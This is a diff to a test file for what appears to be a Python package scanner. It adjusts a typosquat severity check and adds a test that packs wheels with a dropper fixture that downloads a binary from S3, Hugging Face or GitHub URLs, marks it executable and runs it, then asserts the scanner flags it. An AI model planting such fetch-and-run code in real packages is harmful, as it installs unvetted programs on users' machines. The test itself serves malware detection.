@@ -5,7 +5,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from builders import gzip_bytes, tar_bytes, write
+from builders import gzip_bytes, tar_bytes, write, zip_bytes
 from finalexam.analyze.obfuscation import inspect
 from finalexam.analyze.typosquat import requires_txt, setup_py_requires
 from finalexam.config import Config
@@ -53,8 +53,8 @@ def test_dependency_squats_in_requires_txt_and_setup_py_are_reported(tmp_path: P
         },
     )
     findings = [f for f in run_exam(squatting, Config()).findings if f.rule_id == "typosquat-name"]
-    # a lead (medium): honest packages depend on new names one edit from popular ones
-    assert findings and all(f.severity is Severity.MEDIUM for f in findings)
+    # two neighbours swapped: a slip of the hand, not a made name (httpx2 would be a lead)
+    assert findings and all(f.severity is Severity.HIGH for f in findings)
     assert {f.location.chain[-1] for f in findings if f.location} >= {
         "carrier-1.0/setup.py",
         "carrier-1.0/carrier.egg-info/requires.txt",
@@ -177,3 +177,35 @@ def test_import_time_loader_of_a_caller_named_url_is_not_a_beacon(tmp_path: Path
     assert high(run_exam(carrier, Config())) == {
         "thr-import-network": "cfgnet-1.0/cfgnet/__init__.py"
     }
+
+
+def test_droppers_on_well_known_hosts_are_not_lowered(tmp_path: Path) -> None:
+    """A bucket, a model hub or a code forge hosts droppers as well as anyone: the host
+    never lowers download-and-run."""
+    hosted = {
+        "s3": "https://updates-cdn.s3.amazonaws.com/helper.exe",
+        "hf": "https://huggingface.co/someone/tools/resolve/main/helper",
+        "forge": "https://raw.githubusercontent.com/someone/tools/main/helper.exe",
+    }
+    for host, url in hosted.items():
+        code = (
+            "import os, subprocess, tempfile, urllib.request\n"
+            "def refresh():\n"
+            f"    target = os.path.join(tempfile.gettempdir(), 'helper-{host}')\n"
+            f"    urllib.request.urlretrieve({url!r}, target)\n"
+            "    os.chmod(target, 0o755)\n"
+            "    subprocess.Popen([target])\n"
+        )
+        wheel = write(
+            tmp_path / f"dl{host}-1.0-py3-none-any.whl",
+            zip_bytes(
+                {
+                    f"dl{host}-1.0.dist-info/METADATA": f"Name: dl{host}\n",
+                    f"dl{host}/__init__.py": "from .refresh import refresh\n",
+                    f"dl{host}/refresh.py": code,
+                }
+            ),
+        )
+        report = run_exam(wheel, Config(disable=("vulnerabilities",)))
+        assert high(report).get("thr-fetch-then-run") == f"dl{host}/refresh.py", host
+        assert not report.verdict.passed
